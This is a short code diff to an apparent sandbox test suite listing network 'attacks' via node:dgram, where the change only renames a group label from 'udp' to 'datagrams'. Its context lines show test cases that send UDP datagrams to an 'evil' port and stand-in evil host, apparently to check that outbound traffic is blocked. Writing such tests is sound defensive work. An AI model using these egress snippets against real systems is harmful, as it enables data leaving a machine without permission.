@@ -5,7 +5,7 @@ import { type Attack, family } from '../attack.ts';
 
 export const datagramAttacks: readonly Attack[] = family(
   'node:dgram',
-  ['udp'],
+  ['datagrams'],
   [
     ['send', 'udp', ({ evil }) => sent(dgram.createSocket('udp4'), evil.udpPort, '127.0.0.1')],
     ['send to a name', 'udp', ({ evil }) => sent(dgram.createSocket('udp4'), evil.udpPort, evil.host)],
